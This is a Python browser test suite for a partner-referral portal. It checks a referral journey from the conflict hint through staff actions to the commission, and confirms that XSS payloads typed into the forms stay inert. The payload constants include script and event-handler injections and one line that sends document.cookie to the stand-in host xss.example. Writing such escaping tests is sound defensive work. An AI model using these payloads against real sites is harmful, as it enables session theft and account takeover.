"""Referrals in a real browser, CSRF on: the partner's form to the commission, and hostile input.

The journey: a partner types the website of a company another partner already registered and
sees the live hint (never who registered it), submits anyway, and lands on the confirmation
with the reference and the due time. Staff find the conflict in the inbox, accept it, take it,
post an update and an internal note; the partner sees the update (not the note) on the timeline
and in the outbox e-mail. Staff mark it won; the partner sees the commission. axe-core checks
every page on the way.

The hostile test sends a spread of the XSS corpus through the same forms and checks that no
page opens a dialog or carries live markup. Our Content-Security-Policy would block an injected
`alert` anyway, so that test switches the CSP off in its browser: escaping alone must hold.
With the CSP on (the journey), any CSP violation fails the test too. tests/test_xss_referrals.py
sends every payload through every field at request level.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask

from portal.accounts.models import Organization, OrgStatus, Role, User
from portal.content_runtime import current_content
from portal.extensions import db
from portal.notify.models import OutboxMessage
from portal.referrals.models import Referral
from portal.referrals.service import ReferralInput, submit_referral
from tests.browser.test_journey import assert_accessible
from tests.xss_corpus import XSS_PAYLOADS, find_injections

PASSWORD = "a long enough partner password"
PARTNER_EMAIL = "priya@brightline.example"
STAFF_EMAIL = "sam@vendor.example"
RIVAL_ORG = "Harborview Alliance Group"
RIVAL_NAME = "Rita Vance"
RIVAL_EMAIL = "rita@harborview.example"
# A registrable domain under a public suffix (.co.uk): *.example.com would all be one company.
REGISTERED_WEBSITE = "https://www.blueharbor-logistics.co.uk"
UPDATE_TEXT = "We booked a discovery call for Tuesday."
NOTE_TEXT = "Budget approved by CFO - internal"
# Fixture program (tests/fixtures/content/program.yml): a referral partner's sourced deal
# earns 10%, capped at USD 20,000. 10% of 250,000 is 25,000, so the cap applies.
DEAL_VALUE = "250000"
COMMISSION = "USD 20,000.00"

# A spread of the corpus: event handlers, script tags, attribute break-outs, autofocus
# tricks, mutation XSS, comment and noscript confusion.
FORM_PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<body onload=alert(1)>",
)
UPDATE_PAYLOAD = "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"
NOTE_PAYLOAD = '<img src="x" onerror="fetch(\'//xss.example/?c=\'+document.cookie)">'
REASON_PAYLOAD = "<img src=x:alert(alt) onerror=eval(src) alt=0>"


@dataclass(frozen=True)
class Cast:
    registered_ref: str  # the rival organisation's open registration


@pytest.fixture(scope="module")
def cast(live_app: Flask) -> Cast:
    """Two referral partners, a staff member; the rival has registered Blue Harbor already."""
    with live_app.app_context():
        ours = Organization(
            name="Brightline Consulting",
            partner_type="referral",
            tier="registered",
            status=OrgStatus.ACTIVE,
        )
        rival = Organization(
            name=RIVAL_ORG, partner_type="referral", tier="silver", status=OrgStatus.ACTIVE
        )
        people = [
            User(email=PARTNER_EMAIL, name="Priya Shah", role=Role.PARTNER_USER, organization=ours),
            User(
                email=RIVAL_EMAIL,
                name=RIVAL_NAME,
                role=Role.PARTNER_ADMIN,
                organization=rival,
            ),
            User(email=STAFF_EMAIL, name="Sam Staff", role=Role.STAFF),
        ]
        for person in people:
            person.set_password(PASSWORD)
        db.session.add_all([ours, rival, *people])
        db.session.commit()
        registered = submit_referral(
            people[1],
            ReferralInput(
                company_name="Blue Harbor Logistics Ltd",
                company_website=REGISTERED_WEBSITE,
                contact_name="Morgan Ellis",
                contact_email="morgan.ellis@blueharbor-logistics.co.uk",
                contact_phone="",
                contact_role="COO",
                region="Europe",
                estimated_value_minor=9_000_000,
                estimated_currency="USD",
                expected_timing="3-6",
                customer_need="Route planning across twelve depots.",
                involvement="sourced",
                idempotency_key="rival-blueharbor-1",
            ),
            current_content().program,
        ).referral
        db.session.commit()
        return Cast(registered_ref=registered.reference)


@dataclass
class Window:
    """A browser page and what it reported: dialogs, CSP violations, script errors."""

    page: Any
    dialogs: list[str]
    problems: list[str]


def _watch(page: Any) -> Window:
    """Record what the page reports; the `page` fixture already records (and dismisses) dialogs."""
    window = Window(page, getattr(page, "dialogs", []), [])

    def on_dialog(dialog: Any) -> None:
        window.dialogs.append(dialog.message)
        dialog.dismiss()

    def on_console(message: Any) -> None:
        # An escaped page never trips the CSP: a violation is a payload that became markup.
        if "Content Security Policy" in message.text:
            window.problems.append(message.text)

    if not hasattr(page, "dialogs"):
        page.on("dialog", on_dialog)
    page.on("console", on_console)
    page.on("pageerror", lambda error: window.problems.append(str(error)))
    return window


@contextmanager
def _signed_in(
    browser: Any, live_url: str, email: str, *, bypass_csp: bool = False
) -> Iterator[Window]:
    """A fresh browser context (its own cookies) signed in through the login form."""
    context = browser.new_context(base_url=live_url, bypass_csp=bypass_csp)
    try:
        window = _watch(context.new_page())
        _sign_in(window.page, email)
        yield window
    finally:
        context.close()


def _sign_in(page: Any, email: str) -> None:
    from playwright.sync_api import expect

    page.goto("/login")
    page.get_by_label("E-mail").fill(email)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()


def _fill_referral(
    page: Any, *, company: str, website: str, email: str, contact: str, role: str, need: str
) -> None:
    """Fill the referral form; the website is typed key by key, as a person would."""
    page.get_by_label("Company name").fill(company)
    page.get_by_label("Company website").press_sequentially(website)
    page.get_by_label("Region").select_option("Europe")
    page.get_by_label("Contact's name").fill(contact)
    page.get_by_label("Contact's e-mail").fill(email)
    page.get_by_label("Contact's role").fill(role)
    page.get_by_label("Estimated deal size").fill("90000")
    page.get_by_label("Currency").select_option("USD")
    page.get_by_label("Expected timing").select_option("3-6")
    page.get_by_label("What the customer needs").fill(need)
    page.get_by_label("Sourced: we brought this lead").check()
    page.get_by_label("The contact agreed to be introduced").check()


def _submit_referral(page: Any) -> str:
    page.get_by_role("button", name="Submit referral").click()
    page.wait_for_url(re.compile(r"/referrals/R-\d+/submitted$"))
    return re.search(r"/referrals/(R-\d+)/submitted$", page.url).group(1)


def _detail(scope: Any, term: str) -> Any:
    """The <dd> that follows the <dt> named `term` in a details list."""
    return scope.locator(f"dt:text-is('{term}') + dd").first


def _act(page: Any, button: str, notice: str | re.Pattern[str]) -> None:
    """Press an action button on the staff referral page; htmx swaps in the panel's notice."""
    from playwright.sync_api import expect

    page.get_by_role("button", name=button, exact=True).click()
    expect(page.locator("#referral-panel [role=status]")).to_contain_text(notice)


@pytest.mark.browser
def test_referral_from_conflict_hint_to_commission(
    page: Any, browser: Any, live_app: Flask, live_url: str, cast: Cast
) -> None:
    from playwright.sync_api import expect

    partner = _watch(page)
    _sign_in(page, PARTNER_EMAIL)

    # The partner types the website of a company another partner registered: the live hint.
    page.goto("/referrals/new")
    assert_accessible(page, "the referral form")
    _fill_referral(
        page,
        company="Blue Harbor Logistics",
        website="www.blueharbor-logistics.co.uk/contact",
        email="jordan.blake@blueharbor-logistics.co.uk",
        contact="Jordan Blake",
        role="Head of Operations",
        need="Their dispatch team plans routes by hand; they want live tracking.",
    )
    hint = page.locator("#registration-hint")
    expect(hint).to_contain_text("already open")
    expect(hint).to_contain_text("rules of engagement")
    expect(hint.get_by_role("link", name="rules of engagement")).to_be_visible()
    assert RIVAL_ORG not in page.content() and RIVAL_NAME not in page.content()

    # Submitting anyway: a conflict under review, with the reference and the due time.
    ref = _submit_referral(page)
    expect(page.get_by_role("heading", level=1)).to_have_text(f"Thank you: referral {ref} is in")
    expect(page.get_by_role("status").filter(has_text="Under review")).to_be_visible()
    due = page.locator("p", has_text="Expect a first response by")
    expect(due).to_contain_text(re.compile(r"due in (1 d 23 h|2 d)"))
    with live_app.app_context():
        mine = db.session.get(Referral, int(ref[2:]))
        assert mine is not None and mine.status == "conflict"
        assert mine.conflict_with_id == int(cast.registered_ref[2:])
        assert mine.first_response_due_at - mine.submitted_at == timedelta(hours=48)
        due_at = mine.first_response_due_at.isoformat()
    assert due.locator("time").get_attribute("datetime") == due_at
    assert RIVAL_ORG not in page.content() and cast.registered_ref not in page.content()
    assert_accessible(page, "the confirmation page")

    # Staff, in their own browser: find it in the inbox, accept, take it, update, note.
    with _signed_in(browser, live_url, STAFF_EMAIL) as staff_window:
        staff = staff_window.page
        staff.goto("/inbox/")
        staff.get_by_label("Company or reference").fill(ref)
        staff.get_by_label("Company or reference").press("Enter")
        row = staff.locator("#inbox-results tbody tr")
        expect(row).to_have_count(1)
        expect(row).to_contain_text("Conflict")
        expect(row).to_contain_text("Brightline Consulting")
        assert_accessible(staff, "the inbox")

        row.get_by_role("link", name="Blue Harbor Logistics", exact=True).click()
        staff.wait_for_url(f"**/inbox/{ref}")
        assert_accessible(staff, "the staff referral page")
        _act(staff, "Accept under the rules of engagement", f"{ref} accepted")
        _act(staff, "Assign to me", "Assigned to Sam Staff")
        staff.get_by_label("Update for the partner").fill(UPDATE_TEXT)
        _act(staff, "Post update", "Update posted")
        staff.get_by_label("Internal note (the partner never sees it)").fill(NOTE_TEXT)
        _act(staff, "Add note", "Internal note added")
        timeline = staff.locator("#referral-panel ol.timeline")
        expect(timeline).to_contain_text(UPDATE_TEXT)
        expect(timeline).to_contain_text(NOTE_TEXT)
        expect(_detail(staff.locator("#referral-panel"), "Owner")).to_have_text("Sam Staff")
        assert_accessible(staff, "the staff referral page after the actions")

        # The partner sees the acceptance and the update, never the internal note.
        page.goto(f"/referrals/{ref}")
        partner_timeline = page.locator("ol.timeline")
        expect(partner_timeline).to_contain_text("Accepted by the partner team")
        expect(partner_timeline).to_contain_text(UPDATE_TEXT)
        assert NOTE_TEXT not in page.content()
        expect(_detail(page, "Owner")).to_have_text("Sam")  # the owner's first name
        with live_app.app_context():
            mail = db.session.scalars(
                sa.select(OutboxMessage).where(OutboxMessage.to_email == PARTNER_EMAIL)
            ).all()
            rival_mail = db.session.scalars(
                sa.select(OutboxMessage).where(OutboxMessage.to_email == RIVAL_EMAIL)
            ).all()
        update_mail = [m for m in mail if UPDATE_TEXT in m.body_text]
        assert len(update_mail) == 1 and UPDATE_TEXT in update_mail[0].body_html
        assert f"/referrals/{ref}" in update_mail[0].body_text
        for message in mail:
            for part in (message.subject, message.body_text, message.body_html):
                assert NOTE_TEXT not in part and RIVAL_ORG not in part
        # The earlier registration is told, without naming who won the company.
        told = [m for m in rival_mail if "Another referral for this company" in m.body_text]
        assert told and "Brightline" not in told[0].body_text + told[0].body_html

        # Staff mark it won with a value: the commission follows from the program's rule.
        staff.get_by_label("Deal value (leave empty to use the recorded one)").fill(DEAL_VALUE)
        _act(staff, "Mark won", f"commission {COMMISSION}")
        assert staff_window.dialogs == [] and staff_window.problems == []

    page.reload()
    commission = page.locator("section", has=page.get_by_role("heading", name="Commission"))
    expect(commission).to_contain_text(COMMISSION)
    expect(commission).to_contain_text("capped at USD 20,000.00")
    expect(page.get_by_role("heading", level=1)).to_contain_text("Won")
    assert_accessible(page, "the partner's referral page")

    page.get_by_role("link", name="See all your earnings").click()
    page.wait_for_url("**/earnings")
    earning = page.locator("tr", has=page.get_by_role("link", name=ref))
    expect(earning).to_contain_text(COMMISSION)
    expect(earning).to_contain_text("USD 250,000.00")
    assert_accessible(page, "the earnings page")
    assert partner.dialogs == [] and partner.problems == []


def _assert_inert(window: Window, where: str) -> None:
    window.page.wait_for_load_state("networkidle")
    assert window.dialogs == [], where
    assert window.problems == [], where
    assert find_injections(window.page.content()) == [], where


@pytest.mark.browser
def test_hostile_input_opens_no_dialog(
    browser: Any, live_app: Flask, live_url: str, cast: Cast
) -> None:
    payloads = (*FORM_PAYLOADS, UPDATE_PAYLOAD, NOTE_PAYLOAD, REASON_PAYLOAD)
    assert set(payloads) <= set(XSS_PAYLOADS), "the payloads come from the corpus"
    with (
        _signed_in(browser, live_url, PARTNER_EMAIL, bypass_csp=True) as partner,
        _signed_in(browser, live_url, STAFF_EMAIL, bypass_csp=True) as staff,
    ):
        _hostile_round_trip(partner, staff)
    with live_app.app_context():
        stored = db.session.scalars(sa.select(Referral.company_name)).all()
    assert set(FORM_PAYLOADS[::4]) <= set(stored), "the payloads were stored as typed"


def _hostile_round_trip(partner: Window, staff: Window) -> None:
    """Payloads in through the partner's form and the staff actions, out on every page."""
    page = partner.page

    # Three referrals through the form, four payloads each (name, contact, role, need).
    refs = []
    for n, (company, contact, role, need) in enumerate(
        FORM_PAYLOADS[i : i + 4] for i in range(0, len(FORM_PAYLOADS), 4)
    ):
        page.goto("/referrals/new")
        _fill_referral(
            page,
            company=company,
            website=f"www.hostile-{n}.co.uk",
            email=f"buyer@hostile-{n}.co.uk",
            contact=contact,
            role=role,
            need=need,
        )
        refs.append(_submit_referral(page))
        _assert_inert(partner, f"confirmation of {refs[-1]}")

    # Staff work them: an update, an internal note, a rejection, each with a payload.
    staff.page.goto("/inbox/")
    _assert_inert(staff, "the inbox")
    actions = [
        ("Update for the partner", UPDATE_PAYLOAD, "Post update", "Update posted"),
        ("Internal note (the partner never sees it)", NOTE_PAYLOAD, "Add note", "note added"),
        ("Why it is not accepted (the partner sees this)", REASON_PAYLOAD, "Reject", "rejected"),
    ]
    for ref, (label, text, button, notice) in zip(refs, actions, strict=True):
        staff.page.goto(f"/inbox/{ref}")
        staff.page.get_by_label(label).fill(text)
        _act(staff.page, button, notice)
        _assert_inert(staff, f"staff page of {ref} after {button}")
        staff.page.reload()
        _assert_inert(staff, f"staff page of {ref}")
    staff.page.goto("/inbox/?status=all")
    _assert_inert(staff, "the inbox, every status")

    page.goto("/referrals")
    _assert_inert(partner, "the partner's referral list")
    for ref in refs:
        page.goto(f"/referrals/{ref}")
        _assert_inert(partner, f"the partner's page of {ref}")
